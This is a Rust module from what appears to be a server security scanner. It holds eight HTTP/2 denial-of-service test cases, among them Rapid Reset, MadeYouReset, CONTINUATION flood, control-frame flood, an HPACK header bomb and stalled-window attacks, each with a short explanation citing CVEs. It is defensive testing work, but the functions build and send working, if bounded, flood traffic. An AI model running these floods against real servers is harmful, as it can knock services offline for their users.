//! Frames that cost their sender nothing. Bounded: each stops after what a careful server has long refused.

use std::time::Duration;

use super::frames::{
    CONTINUATION, Connection, END_HEADERS, END_STREAM, End, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, field,
    frame, head, number, text, works,
};
use crate::{
    attempt::Attempt,
    case::{Case, Need, PLAIN, Trouble, Verdict},
};

pub const CASES: &[Case] = &[
    Case {
        id: "h2-rapid-reset",
        title: "A thousand streams are opened and reset at once",
        owasp: &["API4:2023"],
        asvs: &["15.2.2"],
        teaching: "A stream that its client resets no longer counts against the limit of streams, but its request has been begun. \
                   Opening and resetting in one breath makes a server work without a limit: 398 million requests a second \
                   against Google in August 2023 (CVE-2023-44487). Resets must be counted, and too many end the connection.",
        needs: &[Need::Tls],
        run: |attempt| Box::pin(rapid_reset(attempt)),
        ..PLAIN
    },
    Case {
        id: "h2-made-you-reset",
        title: "A thousand streams that the server itself is made to reset",
        owasp: &["API4:2023"],
        asvs: &["15.2.2"],
        teaching: "After Rapid Reset servers counted their clients' resets, but not their own. A frame that is an error, such as a \
                   window that is opened too far, makes the server reset the stream: the same flood, uncounted (MadeYouReset, \
                   CVE-2025-8671; Tomcat, Netty and others). Every reset counts, whoever sent it.",
        needs: &[Need::Tls],
        run: |attempt| Box::pin(made_you_reset(attempt)),
        ..PLAIN
    },
    Case {
        id: "h2-continuation-flood",
        title: "A head without an end, in one CONTINUATION frame after another",
        owasp: &["API4:2023"],
        asvs: &["15.2.2"],
        teaching: "A header block may go on in CONTINUATION frames, as many as one likes, and nothing is known of the request \
                   before the last. Servers that collected them ran out of memory, or of time to decode them: Bartek \
                   Nowotarski's finding of 2024, in Apache (CVE-2024-27316), Go, Node, Envoy. The block must have a bound in \
                   bytes and frames.",
        needs: &[Need::Tls],
        run: |attempt| Box::pin(continuation(attempt)),
        ..PLAIN
    },
    Case {
        id: "h2-control-flood",
        title: "Twenty thousand PING and SETTINGS frames, whose answers nobody reads",
        owasp: &["API4:2023"],
        asvs: &["15.2.2"],
        teaching: "Each PING and each SETTINGS wants an answer. A client that sends and does not read makes a server queue answers \
                   without an end (CVE-2019-9512 and CVE-2019-9515, of Netflix's eight of 2019). What waits to be written must \
                   stop what is read, and others must not notice.",
        needs: &[Need::Tls],
        run: |attempt| Box::pin(control(attempt)),
        ..PLAIN
    },
    Case {
        id: "h2-header-bomb",
        title: "A head of sixteen kilobytes that unpacks to sixty megabytes",
        owasp: &["API4:2023"],
        asvs: &["15.2.2"],
        teaching: "HPACK keeps headers in a table, and one byte names an entry. An entry of four kilobytes that is named sixteen \
                   thousand times is a bomb like a zip file's (CVE-2016-6581, in the first HPACK libraries). The limit must hold \
                   for the unpacked list, while it is unpacked.",
        needs: &[Need::Tls],
        run: |attempt| Box::pin(bomb(attempt)),
        ..PLAIN
    },
    Case {
        id: "h2-streams-above-limit",
        title: "More streams at once than the server has said it takes",
        owasp: &["API4:2023"],
        asvs: &["15.2.2"],
        teaching: "SETTINGS_MAX_CONCURRENT_STREAMS is a promise of the server's that the client is asked to keep. A client that \
                   does not gets as many handlers at work as it has frames, unless those above are refused: reset with \
                   REFUSED_STREAM, or the connection ended. No limit at all means two billion.",
        needs: &[Need::Tls],
        run: |attempt| Box::pin(streams(attempt)),
        ..PLAIN
    },
    Case {
        id: "h2-no-window",
        title: "A client that asks and opens no window for the answer",
        owasp: &["API4:2023"],
        asvs: &["15.2.2"],
        teaching: "In HTTP/2 the reader says how much may be sent. One that says zero keeps each answer in the server's memory and \
                   its connection open, for no bytes at all (CVE-2019-9511 and CVE-2019-9517 are of this kind). An answer that \
                   cannot be written in time must be given up, with its connection.",
        needs: &[Need::Tls],
        waits: true,
        run: |attempt| Box::pin(no_window(attempt)),
        ..PLAIN
    },
    Case {
        id: "h2-silence",
        title: "A connection that greets in HTTP/2 and never asks",
        owasp: &["API4:2023"],
        asvs: &["15.2.2"],
        teaching: "Timeouts for heads were made for HTTP/1.1. A connection that has sent its preface and its settings has begun no \
                   head, so in many servers nothing runs out; thousands of them wait for ever. The first request must come \
                   within the time that a head has, in either version.",
        needs: &[Need::Tls],
        waits: true,
        run: |attempt| Box::pin(silence(attempt)),
        ..PLAIN
    },
];

const MANY: u32 = 1000;

/// Sends the flood, and then an ordinary request: whoever still answers that has not counted.
async fn ends(attempt: &Attempt, what: &str, flood: Vec<u8>) -> Result<Verdict, Trouble> {
    works(attempt).await?;
    let mut connection = Connection::open(attempt, &[]).await?;
    let stream = 2 * MANY + 1;
    let after = frame(HEADERS, END_STREAM | END_HEADERS, stream, &head(attempt, "GET", "/"));
    // Whoever has hung up by then is not written to.
    let _ = connection.write(&[flood, after].concat()).await;
    let end = connection.end_of(stream, Duration::from_secs(8)).await;
    connection.told(attempt, what, &format!("{end:?}"));
    let held = matches!(end, End::GoAway(_) | End::Closed);
    Ok(Verdict::held_if(held, || format!("{what}, and the connection goes on: {end:?}")))
}

async fn rapid_reset(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("GOAWAY, or a closed connection");
    let (block, cancel) = (head(attempt, "GET", "/"), 8_u32.to_be_bytes());
    let flood = (0..MANY).flat_map(|n| {
        let open = frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &block);
        [open, frame(RST_STREAM, 0, 2 * n + 1, &cancel)].concat()
    });
    ends(attempt, "1000 streams, each reset at once", flood.collect()).await
}

async fn made_you_reset(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("GOAWAY, or a closed connection");
    let (block, too_far) = (head(attempt, "GET", "/"), 0x7fff_ffff_u32.to_be_bytes());
    let flood = (0..MANY).flat_map(|n| {
        let open = frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &block);
        [open, frame(WINDOW_UPDATE, 0, 2 * n + 1, &too_far)].concat()
    });
    ends(attempt, "1000 streams, each with a window that cannot be", flood.collect()).await
}

async fn continuation(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("GOAWAY, or a closed connection, long before eight megabytes");
    works(attempt).await?;
    let mut connection = Connection::open(attempt, &[]).await?;
    let more = frame(CONTINUATION, 0, 1, &field(b"x-first", &[b'a'; 16_000]));
    connection.write(&frame(HEADERS, END_STREAM, 1, &head(attempt, "GET", "/"))).await?;
    let mut taken = 0;
    // Half a megabyte lies between the two of us before anybody has to read.
    while taken < 8 << 20 && connection.write(&more).await.is_ok() {
        taken += more.len();
        if taken % (1 << 20) < more.len() && connection.is_over(Duration::from_millis(50)).await {
            break;
        }
    }
    let over = taken < 8 << 20 || connection.is_over(Duration::from_secs(2)).await;
    connection.told(
        attempt,
        "HEADERS, then CONTINUATION without an end",
        &format!("{taken} bytes taken, over: {over}"),
    );
    Ok(Verdict::held_if(over, || format!("a head of {taken} bytes was read, and it waits for more")))
}

async fn control(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("a neighbour who notices nothing");
    works(attempt).await?;
    let mut connection = Connection::open(attempt, &[]).await?;
    let both = [frame(PING, 0, 0, &[7; 8]), frame(SETTINGS, 0, 0, &[])].concat().repeat(10_000);
    let flood = async {
        // It stops taking them at some point, which is right.
        let _ = tokio::time::timeout(Duration::from_secs(4), connection.write(&both)).await;
    };
    let neighbour = attempt.get("/").elsewhere().http2().patience(Duration::from_secs(5)).note("A neighbour").send();
    let ((), neighbour) = tokio::join!(flood, neighbour);
    connection.told(attempt, "10 000 PING and 10 000 SETTINGS, unread", "");
    match neighbour {
        Ok(answer) => Ok(Verdict::held_if(answer.status < 500, || format!("a neighbour got {}", answer.seen()))),
        Err(Trouble::Broken(why)) => Ok(Verdict::Hole(format!("a neighbour got {why}"))),
        Err(trouble) => Err(trouble),
    }
}

async fn bomb(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("431, a reset or GOAWAY; never a success");
    works(attempt).await?;
    let mut connection = Connection::open(attempt, &[]).await?;
    // With incremental indexing: it goes into the table, whose 62nd place it is from then on.
    let entry = [&[0x40][..], &text(b"x-bomb"), &text(&[b'a'; 3900])].concat();
    let named = [0x80 | number(62, 7)[0]].repeat(12_000);
    let block = [head(attempt, "GET", "/"), entry, named].concat();
    let _ = connection.write(&frame(HEADERS, END_STREAM | END_HEADERS, 1, &block)).await;
    let end = connection.end_of(1, Duration::from_secs(6)).await;
    connection.told(attempt, "One entry of 4 KB, named 12 000 times", &format!("{end:?}"));
    let held = !matches!(end, End::Answered(0..=399 | 500..=599) | End::Silent);
    Ok(Verdict::held_if(held, || format!("48 MB of headers in 16 KB: {end:?}")))
}

async fn streams(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("a limit that is said, and those above it refused");
    works(attempt).await?;
    let mut connection = Connection::open(attempt, &[]).await?;
    let limit = connection.setting(3);
    let Some(limit) = limit.filter(|limit| *limit <= 1000) else {
        return Ok(Verdict::Hole(format!(
            "it takes {} streams at once",
            limit.map_or("all".to_owned(), |n| n.to_string())
        )));
    };
    // Unfinished, so that each stays open: the body is announced and does not come.
    let mut block = [head(attempt, "POST", "/v1/auth/login"), field(b"content-type", b"application/json")].concat();
    block.extend(field(b"content-length", b"100"));
    let flood: Vec<u8> = (0..limit + 60).flat_map(|n| frame(HEADERS, END_HEADERS, 2 * n + 1, &block)).collect();
    let _ = connection.write(&flood).await;
    let above = |stream: u32| stream > 2 * limit;
    let refused = connection.until(
        |frame| (frame.kind == RST_STREAM && above(frame.stream)) || frame.kind == super::frames::GOAWAY,
        Duration::from_secs(4),
    );
    let refused = refused.await.is_some();
    connection.told(attempt, &format!("{} streams at once", limit + 60), &format!("refused: {refused}"));
    Ok(Verdict::held_if(refused, || format!("{} streams were taken where {limit} are promised", limit + 60)))
}

async fn no_window(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("a connection that is ended within a minute");
    works(attempt).await?;
    let mut connection = Connection::open(attempt, &[(4, 0)]).await?;
    for n in 0..5 {
        let ask = frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, &head(attempt, "GET", "/openapi.json"));
        connection.write(&ask).await?;
    }
    let over = connection.is_over(Duration::from_secs(65)).await;
    connection.told(attempt, "Five requests, and no window for their answers", &format!("over: {over}"));
    Ok(Verdict::held_if(over, || "after 65 s it still waits for a window".to_owned()))
}

async fn silence(attempt: &Attempt) -> Result<Verdict, Trouble> {
    attempt.expect("a connection that is ended within twenty seconds");
    works(attempt).await?;
    let mut connection = Connection::open(attempt, &[]).await?;
    let over = connection.is_over(Duration::from_secs(20)).await;
    connection.told(attempt, "The preface and SETTINGS, and then nothing", &format!("over: {over}"));
    Ok(Verdict::held_if(over, || "after 20 s it still waits for a first request".to_owned()))
}
